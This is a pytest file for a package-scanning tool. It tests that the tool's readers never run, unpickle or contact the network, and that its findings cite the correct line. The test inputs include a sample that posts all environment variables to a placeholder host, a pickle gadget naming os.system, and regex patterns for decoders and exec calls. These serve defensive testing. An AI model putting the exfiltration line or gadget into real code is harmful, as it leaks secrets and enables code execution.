"""No reader runs, imports or unpickles what it reads, writes, or asks the network; and each cites truly."""

from __future__ import annotations

import importlib.util
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from fimci.look import take
from fimci.model import Capability
from fimci.readers import ALL as READERS
from fimci.snapshot import Recipe
from tests import cases, guarded

ROOT = Path(__file__).parent.parent
#: Packages of the environment: Python, its bytecode, native code, scripts of web pages.
PACKAGES = ("_pytest", "hypothesis", "msgspec", "pluggy", "tree_sitter_python")
#: What is encoded stands for what it decodes to.
_ENCODED = re.compile(r"[A-Za-z0-9+/=_\\-]{12}|(?:\d+, ?){8}|[^\x00-\x7f]{8}")
#: What decodes or runs what stands elsewhere.
_DECODER = re.compile(r"decode|fromhex|atob|Buffer|zlib|base64|exec|eval|getattr", re.IGNORECASE)
_WORD = re.compile(r"\w{3,}")
#: Named by a step as its shell, and not in its command.
_INTERPRETERS = frozenset(("python", "node"))
#: Evidence that describes, and quotes nothing: of manifests, of measures.
_DESCRIBED = frozenset(
    ("install-script", "hidden-text", "native-code", "bytecode", "unanalyzed", "persistence")
)


def run(*arguments: str) -> list[str]:
    done = subprocess.run(
        [sys.executable, "-B", *arguments], cwd=ROOT, capture_output=True, text=True, timeout=300, check=False
    )
    assert done.returncode == 0, done.stderr
    return done.stdout.splitlines()


def folder(package: str) -> Path:
    found = importlib.util.find_spec(package)
    assert found is not None
    assert found.origin is not None
    return Path(found.origin).parent


def test_readers_do_nothing_but_read() -> None:
    folders = [ROOT / "fixtures/incidents", *(folder(package) for package in PACKAGES)]
    *done, last = run("-m", "tests.guarded", str(ROOT / "fixtures/rules"), *map(str, folders))
    assert done == []
    assert int(last.split()[1]) > 500, "too little was read to prove anything"


@pytest.mark.parametrize(
    ("deed", "event"),
    [
        ("exec('1')", "exec "),
        ("import antigravity_lite_example", "import "),
        ("import subprocess; subprocess.run(['true'])", "subprocess.Popen "),
        ("import os; os.system('true')", "os.system "),
        ("import os; open(os.devnull, 'w')", "open "),
        ("import os; os.open(os.devnull, os.O_RDWR)", "open "),
        ("import pickle; pickle.loads(b'cos\\nsystem\\n.')", "pickle.find_class "),
        ("import marshal; marshal.loads(b'N')", "marshal.loads "),
        ("import socket; socket.getaddrinfo('127.0.0.1', 80)", "socket.getaddrinfo "),
        ("import ctypes; ctypes.CDLL(None)", "ctypes.dlopen "),
    ],
)
def test_the_guard_sees_deeds(deed: str, event: str) -> None:
    program = f"""
from tests import guarded
told = guarded.watched()
try:
    {deed}
except ImportError:
    pass
print(*told, sep="\\n")
"""
    assert [line for line in run("-c", program) if line.startswith(event)]


def cited(path: str, data: bytes) -> Iterator[tuple[Capability, str]]:
    """Yield what the readers of a file tell, each with the line that it cites."""
    lines = data.decode("utf-8", "replace").splitlines()
    for record in take([cases.entry(path, data)], Recipe(), READERS):
        if isinstance(record, Capability) and record.name not in _DESCRIBED:
            yield record, lines[record.at.line - 1] if record.at.line <= len(lines) else ""


def stands_there(record: Capability, line: str) -> bool:
    """Tell whether the evidence is on the line: its words, joined of pieces there, or what decodes to it."""
    text = next(iter(record.at.text.strip().splitlines()), "")
    rest = iter(line)
    if all(letter in rest for letter in text) or set(_WORD.findall(text)) - _INTERPRETERS <= set(
        _WORD.findall(line)
    ):
        return True
    if record.name in {"encoded-payload", "obfuscation"} or "(decoded: " in record.detail:
        return _DECODER.search(line) is not None
    return _ENCODED.search(line) is not None


@pytest.mark.parametrize(
    "where", [ROOT / "fixtures/incidents", *map(folder, PACKAGES)], ids=lambda where: where.name
)
def test_evidence_stands_on_the_cited_line(where: Path) -> None:
    told = (one for path, data in guarded.files(where) for one in cited(path, data))
    wrong = [(record.at, record.name, line) for record, line in told if not stands_there(record, line)]
    assert wrong == []


def test_evidence_on_another_line_is_seen() -> None:
    text = "import os, requests\nrequests.post('https://h.invalid/', data=str(os.environ))\n"
    (sent, line) = next(pair for pair in cited("a.py", text.encode()) if pair[0].name == "exfiltration")
    assert stands_there(sent, line)
    assert not stands_there(sent, text.splitlines()[0])
